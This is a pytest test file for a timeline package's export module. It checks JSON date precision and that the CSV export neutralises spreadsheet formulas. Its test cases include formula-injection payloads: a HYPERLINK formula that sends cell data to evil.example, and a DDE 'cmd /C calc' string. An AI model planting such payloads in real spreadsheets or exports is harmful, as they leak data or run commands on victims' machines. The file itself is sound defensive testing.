"""Exports: canonical JSON and formula-safe CSV."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest

from diplotime import export, schema
from diplotime.pipeline import check_file


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"x")', '\'=HYPERLINK("http://evil.example/?"&A1,"x")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("-2+3", "'-2+3"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("-33.5", "-33.5"),
        ("+7", "+7"),
        ("-1e5", "-1e5"),
        ("- 2", "'- 2"),
        ("-", "'-"),
        ("Treaty of Shimoda", "Treaty of Shimoda"),
        ("1945", "1945"),
        ("", ""),
    ],
)
def test_neutralise(cell: str, expected: str) -> None:
    assert export.neutralise(cell) == expected


def events_from(csv_text: str) -> pd.DataFrame:
    return check_file(csv_text.encode(), "x.csv").events


def test_json_export_cuts_dates_to_their_precision() -> None:
    events = events_from(
        "date,end_date,title,lat,lon\n1875,,A,,\n1945-08,1945-09,B,46.5,150.5\n2019-01-22,,C,55.75,37.62\n"
    )
    records = json.loads(export.to_json(events))
    assert [(r["date"], r["end_date"], r["date_precision"]) for r in records] == [
        ("1875", "", "year"),
        ("1945-08", "1945-09", "month"),
        ("2019-01-22", "", "day"),
    ]
    assert list(records[0]) == list(schema.COLUMN_NAMES)
    assert records[0]["lat"] is None and records[1]["lat"] == 46.5


def test_csv_export_neutralises_formulas_and_keeps_negative_coordinates() -> None:
    events = events_from('date,title,actors,lat,lon\n2019-01-22,"=HYPERLINK(""http://x"")",@evil,-33.5,-70.25\n')
    rows = list(csv.DictReader(io.StringIO(export.to_safe_csv(events))))
    assert rows[0]["title"] == '\'=HYPERLINK("http://x")'
    assert rows[0]["actors"] == "'@evil"
    assert (rows[0]["lat"], rows[0]["lon"]) == ("-33.5", "-70.25")


def test_exported_csv_reimports_to_the_same_events() -> None:
    events = events_from("date,title,location\n2019-01-22,=1+2,Moscow\n1875,+Treaty,St Petersburg\n")
    again = check_file(export.to_safe_csv(events).encode(), "again.csv").events
    assert list(again["title"]) == ["=1+2", "+Treaty"]
    assert list(again["id"]) == list(events["id"])


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\t=1+1", "\r=1+1"]


def test_every_text_cell_of_the_csv_export_is_neutralised_while_numbers_stay_numbers() -> None:
    rows = []
    for i, formula in enumerate(FORMULAS):
        row = {c: "" for c in schema.COLUMN_NAMES}
        row.update(
            id=f"e{i}",
            date="2019-01-22",
            title=formula,
            actors=formula,
            location=formula,
            description=formula,
            source=formula,
            tags="-30",
            lat=-33.5,
            lon=12.0,
        )
        rows.append(row)
    written = export.to_safe_csv(pd.DataFrame(rows))
    parsed = list(csv.DictReader(io.StringIO(written, newline="")))
    assert len(parsed) == len(FORMULAS)
    for formula, row in zip(FORMULAS, parsed, strict=True):
        for col in ("title", "actors", "location", "description", "source"):
            assert row[col] == "'" + formula, (col, row[col])
        assert (row["lat"], row["lon"], row["tags"]) == ("-33.5", "12.0", "-30")
    for row in parsed:  # no cell a spreadsheet would evaluate
        for value in row.values():
            assert not value.startswith(export.FORMULA_START) or value in ("-33.5", "-30")
